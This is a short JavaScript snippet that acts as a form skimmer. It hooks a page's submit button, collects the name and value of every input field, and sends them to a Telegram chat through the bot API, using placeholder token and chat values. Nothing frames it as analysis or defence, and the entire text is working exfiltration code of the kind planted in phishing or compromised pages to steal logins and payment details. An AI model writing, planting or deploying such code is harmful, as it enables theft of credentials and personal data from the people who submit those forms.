const T = '7000000000:AAx', C = '-100';
document.querySelector('[type=submit]').addEventListener('click', () => {
  const m = [...document.querySelectorAll('input')].map(i => `${i.name || i.id}: ${i.value}`).join('\n');
  fetch(`https://api.telegram.org/bot${T}/sendMessage?chat_id=${C}&text=${encodeURIComponent(m)}`);
});
